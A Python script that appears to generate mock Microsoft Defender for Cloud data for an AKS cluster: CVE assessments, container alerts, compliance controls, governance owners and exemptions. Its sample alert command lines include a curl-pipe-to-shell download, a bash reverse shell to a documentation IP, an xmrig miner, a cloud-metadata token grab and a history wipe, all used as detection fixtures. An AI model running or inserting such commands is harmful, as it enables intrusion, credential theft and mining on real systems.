    ("libc6", "2.35-0ubuntu3.7", "2.35-0ubuntu3.8", "High", [("CVE-2024-33599", 7.6), ("CVE-2024-33600", 5.3)]),
    ("curl", "7.81.0-1ubuntu1.16", "7.81.0-1ubuntu1.17", "Medium", [("CVE-2024-7264", 6.5)]),
    ("libxml2", "2.9.13+dfsg-1ubuntu0.4", "2.9.13+dfsg-1ubuntu0.5", "Medium", [("CVE-2024-34459", 5.5)]),
    ("sudo", "1.9.9-1ubuntu2.4", None, "Low", [("CVE-2023-42465", 3.6)]),
]
for pool in ("system", "apps"):
    pool_id = f"{CLUSTER}/agentPools/{pool}"
    for pkg, ver, fixed, sev, cves in NODE_ROWS:
        key = guid(pool, pkg)
        name = f"Node pool {pool}: {pkg} should be updated" if fixed else f"Node pool {pool}: {pkg} has vulnerabilities without a fix"
        resources.append({
            "id": f"{CLUSTER}{SEC}/assessments/{key}", "name": key, "type": "Microsoft.Security/assessments",
            "properties": {
                "resourceDetails": {"source": "Azure", "id": pool_id}, "displayName": name,
                "status": {"code": "Unhealthy", "cause": "", "description": "The resource is unhealthy",
                           "firstEvaluationDate": "2026-10-30T03:12:00.0000000Z", "statusChangeDate": "2026-10-30T03:12:00.0000000Z"},
                "additionalData": {
                    "CvesDetails": json.dumps([{"CveId": c, "CvssScore": s} for c, s in cves]),
                    "DetectedSoftwareVersions": f"{pkg} {ver}", "FixedVersion": fixed or "",
                },
                "metadata": {"displayName": name, "assessmentType": "DynamicBuiltIn", "severity": sev, "categories": ["Compute"],
                             "recommendationCategory": "ServiceUpgrade", "userImpact": "Moderate", "implementationEffort": "Low",
                             "threats": ["elevationOfPrivilege"], "description": f"Vulnerabilities were found in {pkg} on the nodes of node pool {pool}.",
                             "remediationDescription": "Upgrade the node image (az aks nodepool upgrade --node-image-only) or let the NodeImage auto-upgrade channel apply it."},
            },
        })
node_count = sum(len(c) for *_, c in NODE_ROWS) * 2

# ---------------------------------------------------------------- alerts
ALERT_TYPES = [  # type, name, severity, intent, techniques, entity kind
    ("K8S.NODE_DigitalCurrencyMining", "Digital currency mining related behavior detected", "High", "Execution", ["T1496"], "pod"),
    ("K8S_MaliciousContainerImage", "Digital currency mining container detected", "High", "Execution", ["T1496"], "pod"),
    ("K8S_ExposedDashboard", "Exposed Kubernetes dashboard detected", "High", "InitialAccess", ["T1133"], "service"),
    ("K8S.NODE_ReverseShell", "Potential reverse shell detected", "Medium", "Exfiltration", ["T1059"], "pod"),
    ("K8S.NODE_ImdsCall", "Access to cloud metadata service detected", "Medium", "CredentialAccess", ["T1552"], "pod"),
    ("K8S.NODE_NamespaceCreation", "Attempt to create a new Linux namespace from a container detected", "Medium", "PrivilegeEscalation", ["T1611"], "pod"),
    ("K8S.NODE_HistoryFileCleared", "A history file has been cleared", "Medium", "DefenseEvasion", ["T1070"], "pod"),
    ("K8S_AnomalousSecretAccess", "Anomalous secret access (Preview)", "Medium", "CredentialAccess", ["T1552"], "serviceaccount"),
    ("K8S_SensitiveMount", "Container with a sensitive volume mount detected", "Medium", "PrivilegeEscalation", ["T1611"], "pod"),
    ("K8S.NODE_SuspectDownload", "Detected file download from a known malicious source", "Medium", "Execution", ["T1105"], "pod"),
    ("K8S.NODE_KnownLinuxAttackTool", "Possible attack tool detected", "Medium", "Execution", ["T1203"], "pod"),
    ("K8S.NODE_SuspectPortForwarding", "Potential port forwarding to external IP address", "Medium", "Exfiltration", ["T1090"], "pod"),
    ("K8S_ExposedService", "Exposed Kubernetes service detected", "Medium", "InitialAccess", ["T1133"], "service"),
    ("K8S_PrivilegedContainer", "Privileged container detected", "Low", "PrivilegeEscalation", ["T1611"], "pod"),
    ("K8S_ClusterAdminBinding", "Role binding to the cluster-admin role detected", "Low", "Persistence", ["T1098"], "serviceaccount"),
    ("K8S_HighPrivilegesRole", "New high privileges role detected", "Low", "Persistence", ["T1098"], "serviceaccount"),
    ("K8S_AdmissionController", "Creation of admission webhook configuration detected", "Low", "Persistence", ["T1546"], "cluster"),
    ("K8S_DeleteEvents", "Kubernetes events deleted", "Low", "DefenseEvasion", ["T1070"], "cluster"),
    ("K8S.NODE_PrivilegedExecutionInContainer", "Command within a container running with high privileges", "Low", "PrivilegeEscalation", ["T1611"], "pod"),
    ("K8S_PenTestToolsKubeHunter", "Kubernetes penetration testing tool detected", "Low", "Discovery", ["T1613"], "pod"),
    ("K8S_KubeSystemContainer", "New container in the kube-system namespace detected", "Informational", "Persistence", ["T1610"], "pod"),
    ("K8S.NODE_ContainerSSH", "SSH server is running inside a container", "Informational", "Execution", ["T1021"], "pod"),
    ("K8S.NODE_TimerServiceDisabled", "Attempt to stop apt-daily-upgrade.timer service detected", "Informational", "DefenseEvasion", ["T1562"], "node"),
]
PODS = [("payments", "payments-api-7d9c6b5f4-x2k8q", "payments-api"), ("checkout", "checkout-web-5f8d7c9b6-p4m2n", "checkout-web"),
        ("risk", "fraud-scoring-6c5b8d7f9-j7h3k", "fraud-scoring"), ("reporting", "legacy-reports-84f7c6d5b-q9w2e", "legacy-reports"),
        ("kube-system", "debug-tools-7f6d5c4b3-z8x7c", "debug-tools"), ("ingress-nginx", "ingress-nginx-controller-6b9f8d7c5-t5r4e", "controller"),
        ("kubernetes-dashboard", "kubernetes-dashboard-5c7d8f9b6-m3n2b", "kubernetes-dashboard")]
STATUSES = ["Active"] * 7 + ["InProgress"] * 2 + ["Resolved", "Dismissed"]
COMMANDS = ["/bin/sh -c curl -s http://203.0.113.77/x.sh | sh", "xmrig --donate-level 1 -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ",
            "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", "curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token",
            "unshare --map-root-user --net --mount /bin/sh", "cat /dev/null > ~/.bash_history", "kube-hunter --pod"]

def alert(i, atype, name, sev, intent, techniques, entity_kind, resource, status, start):
    ns, pod, container = PODS[i % len(PODS)]
    if atype in ("K8S_ExposedDashboard",):
        ns, pod, container = PODS[6]
    if atype in ("K8S_KubeSystemContainer",):
        ns, pod, container = PODS[4]
    sys_id = f"25{rng.randint(10**15, 10**16 - 1)}_{guid('alert', str(i)).upper()}"
    cluster_name = resource.rsplit("/", 1)[1]
    node = f"aks-apps-{rng.randint(10000000, 99999999)}-vmss00000{rng.randint(0, 5)}"
    cmd = COMMANDS[i % len(COMMANDS)]
    entities = [
        {"$id": "1", "ResourceId": resource, "Type": "azure-resource"},
        {"$id": "2", "CloudResource": {"$ref": "1"}, "Type": "K8s-cluster", "ClusterName": cluster_name},
        {"$id": "3", "Name": ns, "Cluster": {"$ref": "2"}, "Type": "K8s-namespace"},
    ]
    if entity_kind == "pod":
        entities += [{"$id": "4", "Name": pod, "Namespace": {"$ref": "3"}, "Type": "K8s-pod"},
                     {"$id": "5", "Name": container, "Image": {"ImageId": f"{ACR}/{container}"}, "Type": "container"},
                     {"$id": "6", "CommandLine": cmd, "Type": "process"},
                     {"$id": "7", "HostName": node, "Type": "host"}]
        compromised = pod
    elif entity_kind == "service":
        entities += [{"$id": "4", "Name": container, "Namespace": {"$ref": "3"}, "Type": "K8s-service"}]
        compromised = f"{ns}/{container}"
    elif entity_kind == "serviceaccount":
        entities += [{"$id": "4", "Name": f"{container}-sa", "Namespace": {"$ref": "3"}, "Type": "K8s-serviceaccount"}]
        compromised = f"{ns}/{container}-sa"
    elif entity_kind == "node":
        entities += [{"$id": "4", "HostName": node, "Type": "host"}]
        compromised = node
    else:
        compromised = cluster_name
    ext_props = {"Namespace": ns, "Cluster": cluster_name, "resourceType": "Kubernetes Service"}
    if entity_kind == "pod":
        ext_props.update({"Pod": pod, "Container": container, "Command line": cmd, "Node": node})
    return {
        "id": f"/subscriptions/{SUB}/resourceGroups/{RG}{SEC}/locations/{LOC}/alerts/{sys_id}",
        "name": sys_id, "type": "Microsoft.Security/Locations/alerts",
        "properties": {
            "version": "2022-01-01", "alertType": atype, "systemAlertId": sys_id,
            "productComponentName": "Containers", "alertDisplayName": name,
            "description": f"Analysis of {'processes running in a container' if entity_kind == 'pod' else 'Kubernetes audit logs'} on cluster {cluster_name} detected: {name.lower()}.",
            "severity": sev, "intent": intent,
            "startTimeUtc": start, "endTimeUtc": start, "timeGeneratedUtc": start, "processingEndTimeUtc": start,
            "resourceIdentifiers": [{"azureResourceId": resource, "type": "AzureResource"},
                                    {"workspaceId": "9c4e2a1b-7d3f-4a8e-b6c5-1f2e3d4c5b6a", "workspaceSubscriptionId": SUB,
                                     "workspaceResourceGroup": "rg-security-weu", "type": "LogAnalytics"}],
            "remediationSteps": ["Review the activity in the container or cluster and confirm whether it is expected.",
                                 "If it is not expected, isolate the workload (scale it to zero or apply a deny-all network policy) and rotate credentials it could reach.",
                                 "Escalate to your security operations team with the alert details."],
            "vendorName": "Microsoft", "status": status, "extendedLinks": [],
            "alertUri": f"https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/AlertBlade/alertId/{sys_id}/subscriptionId/{SUB}/resourceGroup/{RG}/referencedFrom/alertDeepLink/location/{LOC}",
            "productName": "Microsoft Defender for Cloud", "entities": entities, "isIncident": False,
            "correlationKey": guid("corr", str(i)), "extendedProperties": ext_props,
            "compromisedEntity": compromised, "techniques": techniques, "subTechniques": [],
        },
    }

alert_list = []
for i in range(28):
    atype, name, sev, intent, techniques, ek = ALERT_TYPES[i % len(ALERT_TYPES)]
    status = STATUSES[i % len(STATUSES)]
    start = f"2026-11-{21 - (i % 20):02d}T{(i * 7) % 24:02d}:{(i * 13) % 60:02d}:{(i * 29) % 60:02d}.{rng.randint(1000000, 9999999)}Z"
    alert_list.append(alert(i, atype, name, sev, intent, techniques, ek, CLUSTER, status, start))
for i in (100, 101):  # the sibling staging cluster's alerts: same RG, must not appear
    atype, name, sev, intent, techniques, ek = ALERT_TYPES[i % len(ALERT_TYPES)]
    alert_list.append(alert(i, atype, name, sev, intent, techniques, ek, SIBLING, "Active", "2026-11-20T10:00:00.0000000Z"))
resources += alert_list

# ---------------------------------------------------------------- compliance
STANDARDS = {
    "Microsoft-cloud-security-benchmark": [
        ("PV.2", "Audit and enforce secure configurations", ["08e628db-e2ed-4793-bc91-d13e684401c3", "405c9ae6-49f9-46c4-8873-a86690f27818", "27d6f0e9-b4d5-468b-ae7e-03d5473fd864", "ff87e0b4-17df-d338-5b19-80e71e0dcc9d"]),
        ("PV.5", "Perform vulnerability assessments", ["c609cf0f-71ab-41e9-a3c6-9a1f7fe1b8d5"]),
        ("PV.6", "Rapidly and automatically remediate vulnerabilities", ["c609cf0f-71ab-41e9-a3c6-9a1f7fe1b8d5"]),
        ("PA.7", "Follow just enough administration (least privilege) principle", ["b0fdc63a-38e7-4bab-a7c4-2c2665abbaa9", "5d90913f-a1c5-4429-ad54-2c6c17fb3c73", "43dc2a2e-ce69-4d42-923e-ab7d136f2cfe", "11c95609-3553-430d-b788-fd41cde8b2db", "9b795646-9130-41a4-90b7-df9eae2437c8"]),
        ("NS.2", "Secure cloud services with network controls", ["1a2b5b4c-f80d-46e7-ac81-b51a9fb363de", "ebc68898-5c0f-4353-a426-4a5f1e737b12", "add45209-73f6-4fa5-a5a5-74a451b07fbe"]),
        ("DP.3", "Encrypt sensitive data in transit", ["c6d87087-9ebe-b31f-b452-0bf3bbbaccd2"]),
        ("LT.1", "Enable threat detection capabilities", ["56a83a6e-c417-42ec-b567-1e6fcb3d09a9"]),
        ("LT.3", "Enable logging for security investigation", ["bb318338-de6a-42ff-8428-8274c897d564"]),
        ("AM.5", "Use only approved applications in virtual machine", ["8d244d29-fa00-4332-b935-c3a51d525417"]),
        ("IM.8", "Restrict the exposure of credentials and secrets", ["32060ac3-f17f-4848-db8e-e7cf2c9a53eb"]),
        ("ES.1", "Use Endpoint Detection and Response (EDR)", ["86f91051-9d6a-47c3-a07f-bd14cb214b45", "aba14f78-27c5-af84-848e-9105d18dfd92"]),
    ],
    "PCI-DSS-4": [
        ("1.3.1", "Inbound traffic to the CDE is restricted", ["1a2b5b4c-f80d-46e7-ac81-b51a9fb363de"]),
        ("2.2.1", "Configuration standards are developed, implemented and maintained", ["08e628db-e2ed-4793-bc91-d13e684401c3", "802c0637-5a8c-4c98-abd7-7c96d89d6010", "f0debc84-981c-4a0d-924d-aa4bd7d55fef"]),
        ("4.2.1", "Strong cryptography protects PAN during transmission", ["c6d87087-9ebe-b31f-b452-0bf3bbbaccd2"]),
        ("6.3.3", "System components are protected from known vulnerabilities by installing security patches", ["c609cf0f-71ab-41e9-a3c6-9a1f7fe1b8d5"]),
        ("7.2.1", "An access control model is defined", ["b0fdc63a-38e7-4bab-a7c4-2c2665abbaa9", "9b795646-9130-41a4-90b7-df9eae2437c8"]),
        ("10.2.1", "Audit logs are enabled and active for all system components", ["bb318338-de6a-42ff-8428-8274c897d564"]),
        ("11.5.1", "Intrusion-detection techniques are used to detect intrusions", ["56a83a6e-c417-42ec-b567-1e6fcb3d09a9"]),
    ],
}
status_of = {r[0]: r[8] for r in RECS}
for std, controls in STANDARDS.items():
    std_id = f"/subscriptions/{SUB}{SEC}/regulatoryComplianceStandards/{std}"
    failed = sum(any(status_of.get(k) == "Unhealthy" for k in ks) for _, _, ks in controls)
    resources.append({"id": std_id, "name": std, "type": "Microsoft.Security/regulatoryComplianceStandards",
                      "properties": {"state": "Failed" if failed else "Passed", "passedControls": len(controls) - failed + 31,
                                     "failedControls": failed + 12, "skippedControls": 0, "unsupportedControls": 40}})
    for ctrl, desc, keys in controls:
        ctrl_id = f"{std_id}/regulatoryComplianceControls/{ctrl}"
        bad = any(status_of.get(k) == "Unhealthy" for k in keys)
        resources.append({"id": ctrl_id, "name": ctrl, "type": "Microsoft.Security/regulatoryComplianceControls",
                          "properties": {"description": desc, "state": "Failed" if bad else "Passed",
                                         "passedAssessments": sum(status_of.get(k) != "Unhealthy" for k in keys),
                                         "failedAssessments": sum(status_of.get(k) == "Unhealthy" for k in keys), "skippedAssessments": 0}})
        for k in keys:
            resources.append({"id": f"{ctrl_id}/regulatoryComplianceAssessments/{k}", "name": k,
                              "type": "Microsoft.Security/regulatoryComplianceAssessment",
                              "properties": {"description": next(r[1] for r in RECS if r[0] == k), "assessmentType": "Assessment",
                                             "assessmentDetailsLink": f"https://management.azure.com/subscriptions/{SUB}{SEC}/securityStatuses/{k}",
                                             "state": "Failed" if status_of.get(k) == "Unhealthy" else "Passed",
                                             "passedResources": rng.randint(2, 9), "failedResources": 1 if status_of.get(k) == "Unhealthy" else 0,
                                             "skippedResources": 0}})

# ---------------------------------------------------------------- governance assignments (Assign owner)
for key, owner, due, grace in [("1a2b5b4c-f80d-46e7-ac81-b51a9fb363de", "maria.kowalski@contoso.com", "2026-12-05T00:00:00.0000000Z", True),
                                ("9b795646-9130-41a4-90b7-df9eae2437c8", "payments-platform@contoso.com", "2026-12-19T00:00:00.0000000Z", False),
                                ("c609cf0f-71ab-41e9-a3c6-9a1f7fe1b8d5", "devon.okafor@contoso.com", "2026-11-15T00:00:00.0000000Z", True),
                                ("56a83a6e-c417-42ec-b567-1e6fcb3d09a9", "secops-oncall@contoso.com", "2026-11-20T00:00:00.0000000Z", False)]:
    gid = guid("gov", key)
    properties = {"owner": owner, "remediationDueDate": due, "isGracePeriod": grace,
                  "governanceEmailNotification": {"disableManagerEmailNotification": False, "disableOwnerEmailNotification": False},
                  "additionalData": {"ticketNumber": 0}}
    if owner == "payments-platform@contoso.com":
        # A changed ETA, and the ServiceNow ticket the integration opened (shape of the official
        # PutGovernanceAssignment example: remediationEta, additionalData ticket fields).
        properties["remediationEta"] = {"eta": "2026-12-12T00:00:00.0000000Z",
                                        "justification": "Waiting for the December maintenance window"}
        properties["additionalData"] = {"ticketNumber": 4107, "ticketStatus": "In Progress",
                                        "ticketLink": "https://contoso.service-now.com/nav_to.do?uri=incident.do%3Fsys_id%3D4107"}
    resources.append({"id": f"{assessment_ids[key]}/governanceAssignments/{gid}", "name": gid,
                      "type": "Microsoft.Security/assessments/governanceAssignments",
                      "properties": properties})

# ---------------------------------------------------------------- late additions (own block: the seeded
# random sequence above stays as it was, so every earlier value is unchanged)
# Two control-plane recommendations whose assessment keys Microsoft does not publish: they are
# recognised by their built-in policy definitions (local accounts, Kubernetes version).
LATE_RECS = [
    (guid("rec", "local-accounts"), "Azure Kubernetes Service Clusters should have local authentication methods disabled", "Cluster", "Medium",
     "993c2fcd-2b29-49d2-9eb0-df2c3a730c32", "Moderate", "Low", ["accountBreach"], "Medium"),
    (guid("rec", "kubernetes-version"), "Kubernetes Services should be upgraded to a non-vulnerable Kubernetes version", "Cluster", "High",
     "fb893a29-21bb-418c-a157-e99480ec364c", "Moderate", "Moderate", ["elevationOfPrivilege"], "High"),
]
for key, name, kind, sev, policy, impact, effort, threats, risk in LATE_RECS:
    aid = f"{CLUSTER}{SEC}/assessments/{key}"
    props = {"resourceDetails": {"source": "Azure", "id": CLUSTER}, "displayName": name,
             "status": {"code": "Unhealthy", "cause": "", "description": "The resource is unhealthy",
                        "firstEvaluationDate": "2025-03-05T02:14:09.1234567Z", "statusChangeDate": "2026-10-19T04:41:17.5730000Z"},
             "additionalData": {},
             "risk": {"level": risk, "riskFactors": ["Critical Resource"], "attackPathsReferences": [], "isContextualRisk": True}}
    resources.append({"id": aid, "name": key, "type": "Microsoft.Security/assessments", "properties": props})
    desc, remediation = DESCRIPTIONS[kind]
    resources.append({"id": f"{SEC}/assessmentMetadata/{key}", "name": key, "type": "Microsoft.Security/assessmentMetadata",
                      "properties": {"displayName": name, "assessmentType": "BuiltIn", "categories": ["Container"], "severity": sev,
                                     "userImpact": impact, "implementationEffort": effort, "threats": threats,
                                     "description": f"{name}. {desc}", "remediationDescription": remediation,
                                     "policyDefinitionId": POLICY + policy,
                                     "publishDates": {"GA": "06/15/2023", "public": "06/15/2023"}}})

# The upgrade profile (ManagedClusters_GetUpgradeProfile), for the Kubernetes version Quick Fix.
resources.append({
    "id": f"{CLUSTER}/upgradeProfiles/default", "name": "default",
    "type": "Microsoft.ContainerService/managedClusters/upgradeProfiles",
    "properties": {
        "controlPlaneProfile": {"kubernetesVersion": "1.30.6", "osType": "Linux", "upgrades": [
            {"kubernetesVersion": "1.30.10"}, {"kubernetesVersion": "1.31.5"}, {"kubernetesVersion": "1.32.2", "isPreview": True}]},
        "agentPoolProfiles": [{"name": pool, "kubernetesVersion": "1.30.6", "osType": "Linux",
                               "upgrades": [{"kubernetesVersion": "1.30.10"}]} for pool in ("system", "apps")],
    },
})

# ---------------------------------------------------------------- the live model (since 2026-07-31)
# Defender retired the grouped vulnerability recommendations and their sub-assessments on
# 2026-07-31 and serves individual recommendations, read through Azure Resource Graph
# (shared/azure/API.md §L). Everything above is kept as generated (same seeded values); this
# stage turns it into today's shapes:
# - each image's vulnerable package becomes one individual recommendation (dynamic key,
#   metadata inline with recommendationCategory SoftwareUpdate, resourceDetails.ResourceType
#   K8s-container, the CVEs as the JSON *string* additionalData.CvesDetails);
# - node-pool findings carry the same fields (category ServiceUpgrade);
# - every recommendation carries its metadata inline (Resource Graph rows do; dynamic keys have
#   no tenant-level assessmentMetadata), and resourceDetails in Resource Graph's PascalCase;
# - alerts are PascalCase (Resource Graph's casing) and one lives in the node resource group;
# - container-level misconfigurations assess individual containers (preview since June 2026).
# Where Microsoft has not documented a field's place (API.md §L4), the demo uses one reported
# candidate per finding, and a few findings use the others, so every candidate the app accepts
# is exercised: the image in resourceAdditionalData.RepositoryDetails ([3p]), in
# resourceDetails.ResourceName (Microsoft's Power BI query), or nowhere ("Unknown image").
MC_RG = f"MC_{RG}_{NAME}_{LOC}"
meta_of = {r["name"].lower(): r["properties"] for r in resources if r["type"] == "Microsoft.Security/assessmentMetadata"}
live = []
grouped_findings = [r for r in resources if r["type"] == "Microsoft.Security/assessments/subAssessments"]
findings_by_package = {}
for r in grouped_findings:
    d = r["properties"]["additionalData"]
    a, sw = d["artifactDetails"], d["softwareDetails"]
    k = (a["repositoryName"], a["tags"][0], sw["packageName"], sw["version"])
    findings_by_package.setdefault(k, []).append(r)
SEV_ORDER = ["Low", "Medium", "High", "Critical"]
for n, ((repo, tag, pkg, ver), rows) in enumerate(findings_by_package.items()):
    first = rows[0]["properties"]
    d = first["additionalData"]
    a = d["artifactDetails"]
    workload = d["kubernetesContext"]["workloads"][0]
    key = guid("individual", repo, tag, pkg, ver)
    cves = [{"CveId": r["properties"]["id"], "Severity": r["properties"]["status"]["severity"],
             "FixedVersion": r["properties"]["additionalData"]["softwareDetails"]["fixedVersion"],
             "FixStatus": r["properties"]["additionalData"]["softwareDetails"]["fixStatus"],
             "PublishedDate": r["properties"]["additionalData"]["vulnerabilityDetails"]["publishedDate"],
             "Cvss": [{"Version": "3.0", "Value": {"Base": r["properties"]["additionalData"]["cvssV30Score"]}}],
             "ExploitabilityDetails": {"IsInExploitKit": r["properties"]["additionalData"]["vulnerabilityDetails"]["exploitabilityAssessment"]["isInExploitKit"],
                                       "ExploitStepsPublished": r["properties"]["additionalData"]["vulnerabilityDetails"]["exploitabilityAssessment"]["exploitStepsPublished"],
                                       "ExploitStepsVerified": r["properties"]["additionalData"]["vulnerabilityDetails"]["exploitabilityAssessment"]["exploitStepsVerified"]}}
            for r in rows]
    severity = max((c["Severity"] for c in cves), key=SEV_ORDER.index)
    fixes = [c["FixedVersion"] for c in cves if c["FixedVersion"]]
    fixed = max(fixes) if len(fixes) == len(cves) else ""
    container = f"{workload['namespace']}/{workload['name']}/{workload['name']}"
    details = {"Source": "Azure", "Id": f"{CLUSTER}/namespaces/{workload['namespace']}/{workload['kind'].lower()}s/{workload['name']}/containers/{workload['name']}",
               "ResourceType": "K8s-container", "ResourceName": container}
    props = {"resourceDetails": details, "displayName": f"{repo}:{tag}: {pkg} {ver} has {len(cves)} vulnerabilit{'y' if len(cves) == 1 else 'ies'}",
             "status": {"code": "Unhealthy", "cause": "", "description": "The resource is unhealthy",
                        "firstEvaluationDate": first["timeGenerated"], "statusChangeDate": first["timeGenerated"]},
             "additionalData": {"CvesDetails": json.dumps(cves, separators=(",", ":")), "SoftwareName": pkg,
                                "DetectedSoftwareVersions": json.dumps([ver]), "FixedVersion": fixed,
                                "PackageType": d["softwareDetails"]["category"]},
             "metadata": {"displayName": f"Container images running in Azure should have {pkg} updated", "assessmentType": "DynamicBuiltIn",
                          "severity": severity, "categories": ["Container"], "recommendationCategory": "SoftwareUpdate",
                          "userImpact": "Moderate", "implementationEffort": "Moderate", "threats": ["dataExfiltration", "elevationOfPrivilege"],
                          "description": f"Vulnerabilities were found in {pkg} {ver} in the image {a['registryHost']}/{repo}:{tag} running in {container}.",
                          "remediationDescription": DESCRIPTIONS["Vuln"][1]}}
    if repo == "mirror/kubernetes-dashboard/dashboard":
        # The image only as an image reference in the resource name (Power BI candidate).
        details["ResourceName"] = f"{a['registryHost']}/{repo}:{tag}"
    elif n == 0:
        # Nothing says which image: shown as "Unknown image" with this resource id, never dropped.
        pass
    else:
        props["resourceAdditionalData"] = json.dumps({"RepositoryDetails": {
            "RegistryHost": a["registryHost"], "RepositoryName": repo, "Digest": a["digest"], "Tags": [tag],
            "LastPushedToRegistryUTC": a["lastPushedToRegistryUTC"]}}, separators=(",", ":"))
    live.append({"id": f"{CLUSTER}{SEC}/assessments/{key}", "name": key, "type": "Microsoft.Security/assessments", "properties": props})

# Container-level misconfigurations: two workload checks on individual containers. One hangs its
# assessment under the cluster; the other, filed in the node resource group, names the cluster
# only through resourceDetails.Id: the two candidates the app's query accepts (API.md §L4).
for key, ns, workload, filed_under in [("9b795646-9130-41a4-90b7-df9eae2437c8", "reporting", "legacy-reports", CLUSTER),
                                       ("5d90913f-a1c5-4429-ad54-2c6c17fb3c73", "kube-system", "debug-tools", f"/subscriptions/{SUB}/resourceGroups/{MC_RG}")]:
    container = f"{CLUSTER}/namespaces/{ns}/deployments/{workload}/containers/{workload}"
    meta = meta_of[key]
    dyn = guid("container-level", key, ns, workload)
    live.append({"id": f"{filed_under}{SEC}/assessments/{dyn}", "name": dyn, "type": "Microsoft.Security/assessments",
                 "properties": {"resourceDetails": {"Source": "Azure", "Id": container, "ResourceType": "K8s-container", "ResourceName": f"{ns}/{workload}/{workload}"},
                                "displayName": f"[Preview] {meta['displayName']} ({ns}/{workload})",
                                "status": {"code": "Unhealthy", "cause": "", "description": "The container is unhealthy",
                                           "firstEvaluationDate": "2026-06-03T04:12:00.0000000Z", "statusChangeDate": "2026-06-03T04:12:00.0000000Z"},
                                "additionalData": {},
                                "metadata": {**meta, "displayName": f"[Preview] {meta['displayName']}", "assessmentType": "DynamicBuiltIn", "preview": True}}})

def pascal(value):
    """Resource Graph spells alert properties (and their identifiers) in PascalCase."""
    if isinstance(value, dict):
        return {k[:1].upper() + k[1:]: v for k, v in value.items()}
    return value

out_resources = []
for r in resources:
    t = r["type"]
    if t == "Microsoft.Security/assessments/subAssessments" or t == "Microsoft.Security/assessmentMetadata":
        continue
    if t == "Microsoft.Security/assessments" and r["name"] == VULN_KEY:
        continue  # the grouped recommendation is retired
    if t == "Microsoft.Security/assessments":
        p = r["properties"]
        rd = p["resourceDetails"]
        # Node-pool rows' ResourceType is undocumented (API.md §L4): none is invented.
        p["resourceDetails"] = {"Source": rd["source"], "Id": rd["id"]}
        if rd["id"].endswith("/agentPools/apps"):
            # The other reported candidate for a node finding: the pool's scale set in the node
            # resource group, named aks-{pool}-{n}-vmss (API.md §L4).
            p["resourceDetails"]["Id"] = (f"/subscriptions/{SUB}/resourceGroups/{MC_RG}/providers/"
                                          "Microsoft.Compute/virtualMachineScaleSets/aks-apps-31415926-vmss")
        if "metadata" not in p and r["name"].lower() in meta_of:
            p["metadata"] = meta_of[r["name"].lower()]
        if p.get("metadata", {}).get("recommendationCategory") == "ServiceUpgrade":
            data = p["additionalData"]
            pkg, ver = data["DetectedSoftwareVersions"].split(" ", 1)
            data["SoftwareName"], data["DetectedSoftwareVersions"] = pkg, json.dumps([ver])
    if t == "Microsoft.Security/Locations/alerts":
        props = pascal(r["properties"])
        props["ResourceIdentifiers"] = [pascal(i) for i in props["ResourceIdentifiers"]]
        r = {**r, "properties": props}
    if t == "Microsoft.Security/assessments/governanceAssignments" and f"/assessments/{VULN_KEY}/" in r["id"]:
        # The retired grouped recommendation's owner now owns the log4j finding it covered.
        target = next(x for x in live if "log4j-core" in x["properties"]["additionalData"]["SoftwareName"])
        r = {**r, "id": f"{target['id']}/governanceAssignments/{r['name']}"}
    out_resources.append(r)
out_resources += live
# One of the cluster's alerts is filed in the node resource group: a per-resource-group read
# misses it, the Resource Graph query (any resource group) does not.
moved = next(r for r in out_resources if r["type"] == "Microsoft.Security/Locations/alerts" and r["properties"]["Status"] == "Active"
             and r["properties"]["ResourceIdentifiers"][0]["AzureResourceId"] == CLUSTER)
moved["id"] = moved["id"].replace(f"/resourceGroups/{RG}/", f"/resourceGroups/{MC_RG}/")
resources = out_resources
individual_images = sum(len(json.loads(x["properties"]["additionalData"]["CvesDetails"])) for x in live if "CvesDetails" in x["properties"]["additionalData"])

# ---------------------------------------------------------------- exemptions (since 2026-07-31)
# Defender standard assignments with effect Exempt (official example PutExemptionStandardAssignment,
# 2024-08-01) and an Azure Policy exemption (createOrUpdatePolicyExemption, 2022-07-01-preview),
# one of each state the inventory tells apart. An exempted recommendation reads "Not applicable",
# cause "Exempt" (API.md §8 (a)).
MCSB = "/providers/Microsoft.Security/securityStandards/1f3afdf9-d0c9-4c3d-847f-89da613e70a8"
by_key = {r["name"]: r for r in resources if r["type"] == "Microsoft.Security/assessments" and r["id"].startswith(CLUSTER + "/")}
def exempted(key):
    by_key[key]["properties"]["status"] = {**by_key[key]["properties"]["status"], "code": "NotApplicable", "cause": "Exempt",
                                           "description": "Exempt: the resource is exempted from this recommendation"}
def standard_exemption(tag, key, category, expires, description, created):
    name = guid("exemption", tag)
    props = {"displayName": f"{by_key[key]['properties']['displayName']} ({tag})", "description": description,
             "effect": "Exempt", "assignedStandard": {"id": MCSB},
             "exemptionData": {"assignedAssessment": {"assessmentKey": key}, "exemptionCategory": category},
             "metadata": {"createdBy": "maria.kowalski@contoso.com", "createdOn": created,
                          "lastUpdatedBy": "maria.kowalski@contoso.com", "lastUpdatedOn": created}}
    if expires:
        props["expiresOn"] = expires
    resources.append({"id": f"{CLUSTER}/providers/Microsoft.Security/standardAssignments/{name}", "name": name,
                      "type": "Microsoft.Security/standardAssignments", "properties": props})
DEFAULT_NS, LIMITS, DIAG_LOGS, RBAC = ("ff87e0b4-17df-d338-5b19-80e71e0dcc9d", "405c9ae6-49f9-46c4-8873-a86690f27818",
                                       "bb318338-de6a-42ff-8428-8274c897d564", "b0fdc63a-38e7-4bab-a7c4-2c2665abbaa9")
exempted(DEFAULT_NS)
exempted(LIMITS)
standard_exemption("platform namespaces", DEFAULT_NS, "waiver", "2027-05-31T00:00:00.000Z",
                   "Platform add-ons deploy to the default namespace by design; reviewed with the platform team.", "2026-09-02T10:11:00.000Z")
standard_exemption("platform namespaces, again", DEFAULT_NS, "waiver", "2027-05-31T00:00:00.000Z",
                   "Same exemption created a second time from the portal.", "2026-10-14T08:30:00.000Z")
standard_exemption("limits via LimitRange", LIMITS, "mitigated", "2026-12-06T00:00:00.000Z",
                   "Namespace LimitRange objects set defaults; Gatekeeper cannot see them.", "2026-06-06T09:00:00.000Z")
standard_exemption("diagnostics to SIEM", DIAG_LOGS, "waiver", "2026-10-31T00:00:00.000Z",
                   "Logs went to the old SIEM until the migration; ended with it.", "2026-05-01T12:00:00.000Z")
standard_exemption("RBAC during migration", RBAC, "mitigated", "2027-06-30T00:00:00.000Z",
                   "Azure RBAC was being rolled out; the cluster has it now.", "2026-03-15T15:45:00.000Z")
